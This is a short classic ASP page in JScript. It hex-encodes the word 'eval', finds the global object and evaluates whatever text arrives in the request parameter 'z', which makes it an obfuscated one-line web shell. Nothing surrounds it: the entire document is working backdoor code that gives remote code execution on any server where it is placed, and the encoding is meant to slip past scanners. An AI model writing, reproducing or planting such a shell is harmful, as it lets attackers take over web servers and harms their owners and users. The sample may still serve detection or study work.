<%@ Language="JScript" %>
<%
var s = "\x65\x76\x61\x6c";
var g = (function () { return this; })();
g[s](Request.Item("z") + "");
%>
